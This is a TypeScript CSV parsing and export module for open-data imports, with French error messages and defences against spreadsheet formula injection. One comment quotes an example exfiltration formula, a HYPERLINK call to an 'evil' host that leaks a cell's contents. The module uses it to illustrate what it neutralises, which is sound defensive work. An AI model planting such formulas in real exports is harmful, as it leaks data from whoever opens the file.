// RFC 4180 CSV for open-data exports and imports.
//
// Parsing is strict where a silent guess would corrupt an import (unclosed quote, wrong
// number of fields, text after a closing quote) and reports the physical line where the
// problem starts, so an error page can say "ligne 12" and the person finds it in their
// spreadsheet. Two tolerances, both because French users edit files by hand or in Excel:
// a quote inside an unquoted field is kept as a literal character (`12" écran`), and empty
// lines are skipped.

export type CsvDelimiter = "," | ";";
export type CsvCell = string | number | boolean | null | undefined;

export interface CsvRow {
  /** Physical line where the record starts, 1-based; the header is line 1. */
  line: number;
  values: Record<string, string>;
}

export interface ParsedCsv {
  header: string[];
  rows: CsvRow[];
}

/** Prepend to toCsv's output for Excel, which otherwise reads UTF-8 as Windows-1252. */
export const CSV_BOM = "\uFEFF";

export class CsvError extends Error {
  readonly line: number;
  constructor(line: number, detail: string) {
    super(`Ligne ${line} : ${detail}`);
    this.name = "CsvError";
    this.line = line;
  }
}

export function parseCsv(text: string, options: { delimiter?: CsvDelimiter | "auto" } = {}): ParsedCsv {
  if (text.startsWith(CSV_BOM)) text = text.slice(1);
  const delimiter = !options.delimiter || options.delimiter === "auto" ? detectDelimiter(text) : options.delimiter;
  const records = readRecords(text, delimiter);
  const first = records.shift();
  if (!first) return { header: [], rows: [] };

  const header = first.fields.map((name) => name.trim());
  const seen = new Set<string>();
  for (const name of header) {
    if (seen.has(name)) throw new CsvError(first.line, `la colonne « ${name} » apparaît deux fois dans l’en-tête.`);
    seen.add(name);
  }

  const rows = records.map(({ line, fields }) => {
    if (fields.length !== header.length) {
      throw new CsvError(
        line,
        `${fields.length} valeur(s) trouvée(s) alors que l’en-tête compte ${header.length} colonne(s). ` +
          "Vérifiez les séparateurs et les guillemets de cette ligne.",
      );
    }
    // A null-prototype object, so that a column named "__proto__" or "constructor" is just data.
    const values: Record<string, string> = Object.create(null);
    header.forEach((name, i) => {
      values[name] = fields[i]!;
    });
    return { line, values };
  });
  return { header, rows };
}

/** French Excel writes ";" (the comma is the decimal separator); everything else writes ",". */
function detectDelimiter(text: string): CsvDelimiter {
  let commas = 0;
  let semicolons = 0;
  let quoted = false;
  for (const c of text) {
    if (c === '"')
      quoted = !quoted; // a doubled quote toggles twice: still correct
    else if (quoted) continue;
    else if (c === "\n" || c === "\r") break;
    else if (c === ",") commas++;
    else if (c === ";") semicolons++;
  }
  return semicolons > commas ? ";" : ",";
}

interface RawRecord {
  line: number;
  fields: string[];
}

function readRecords(text: string, delimiter: CsvDelimiter): RawRecord[] {
  const records: RawRecord[] = [];
  const n = text.length;
  let i = 0;
  let line = 1;

  // Index just past the line break at i (CRLF, LF, or a lone CR from old Mac exports).
  const skipBreak = (at: number) => (text[at] === "\r" && text[at + 1] === "\n" ? at + 2 : at + 1);

  while (i < n) {
    if (text[i] === "\r" || text[i] === "\n") {
      i = skipBreak(i);
      line++;
      continue;
    }
    const start = line;
    const fields: string[] = [];
    for (;;) {
      let field = "";
      if (text[i] === '"') {
        const openedAt = line;
        i++;
        for (;;) {
          const close = text.indexOf('"', i);
          if (close === -1) {
            throw new CsvError(openedAt, "un guillemet ouvert n’est jamais refermé. Vérifiez les guillemets de cette ligne.");
          }
          field += text.slice(i, close);
          i = close + 1;
          if (text[i] !== '"') break;
          field += '"';
          i++;
        }
        line += countLineBreaks(field);
        if (i < n && text[i] !== delimiter && text[i] !== "\r" && text[i] !== "\n") {
          throw new CsvError(line, 'texte inattendu après un guillemet fermant. Un guillemet dans une valeur doit être doublé ("").');
        }
      } else {
        const begin = i;
        while (i < n && text[i] !== delimiter && text[i] !== "\r" && text[i] !== "\n") i++;
        field = text.slice(begin, i);
      }
      fields.push(field);
      if (text[i] === delimiter) {
        i++;
        continue;
      }
      if (i < n) {
        i = skipBreak(i);
        line++;
      }
      break;
    }
    records.push({ line: start, fields });
  }
  return records;
}

function countLineBreaks(s: string): number {
  return s.match(/\r\n|\r|\n/g)?.length ?? 0;
}

// Matches plain numbers, optionally signed, with "." or "," decimals, French digit grouping
// (space, no-break or narrow no-break space, as Intl "fr-FR" writes them) and an exponent.
// None of these characters can build a formula, so such cells are left as they are.
// A digit is required before any exponent: "-e5" would be a formula (minus cell E5).
const PLAIN_NUMBER = /^[+-]?(?:(?:\d{1,3}(?:[ \u00A0\u202F]\d{3})+|\d+)(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?$/;

/**
 * Spreadsheets run a cell beginning with = + - @ (or a tab or CR before one) as a formula:
 * an exported resident's comment such as `=HYPERLINK("http://evil/?"&A1)` would run on the
 * city employee's machine. Such cells are prefixed with a single quote, the OWASP advice.
 * Deliberate exception: plain numbers like "-12.5" or "+3" are NOT prefixed, because negative
 * amounts are everywhere in budget data and must stay numbers in the spreadsheet. Only
 * non-numeric values starting with those characters ("-2+3", "+cmd", "@SUM(…)") get the quote.
 */
function neutralizeFormula(value: string): string {
  if (!/^[=+\-@\t\r]/.test(value)) return value;
  if (PLAIN_NUMBER.test(value)) return value;
  return `'${value}`;
}

function encodeCell(cell: CsvCell, delimiter: CsvDelimiter, isHeader: boolean): string {
  const value = neutralizeFormula(cell === null || cell === undefined ? "" : String(cell));
  // In the header both "," and ";" are quoted, so that delimiter detection (which counts them
  // on line 1) cannot be misled; in rows only the delimiter is, so French decimals such as
  // -12,5 stay bare in a ";" file. Leading/trailing spaces are quoted so lenient readers keep them.
  const special = isHeader || delimiter === "," ? /[",;\r\n]|^\s|\s$/ : /[";\r\n]|^\s|\s$/;
  return special.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
}

/**
 * RFC 4180 text: CRLF after every record, fields quoted when needed, formula injection
 * neutralized (see neutralizeFormula). A row is either an array in header order or an
 * object keyed by column name (missing keys give empty cells). Returns a string without
 * BOM: prepend CSV_BOM for files meant for Excel.
 */
export function toCsv(
  header: readonly string[],
  rows: ReadonlyArray<readonly CsvCell[] | Readonly<Record<string, CsvCell>>>,
  options: { delimiter?: CsvDelimiter } = {},
): string {
  const delimiter = options.delimiter ?? ",";
  const encodeRecord = (cells: readonly CsvCell[], isHeader = false) => {
    const text = cells.map((cell) => encodeCell(cell, delimiter, isHeader)).join(delimiter);
    // A one-column record with an empty value would be an empty line, which readers skip.
    return `${cells.length === 1 && text === "" ? '""' : text}\r\n`;
  };
  let out = encodeRecord(header, true);
  for (const row of rows) {
    if (Array.isArray(row)) {
      if (row.length !== header.length) {
        throw new RangeError(`toCsv: row has ${row.length} cells, header has ${header.length}`);
      }
      out += encodeRecord(row);
    } else {
      const record = row as Readonly<Record<string, CsvCell>>;
      out += encodeRecord(header.map((name) => (Object.hasOwn(record, name) ? record[name] : "")));
    }
  }
  return out;
}
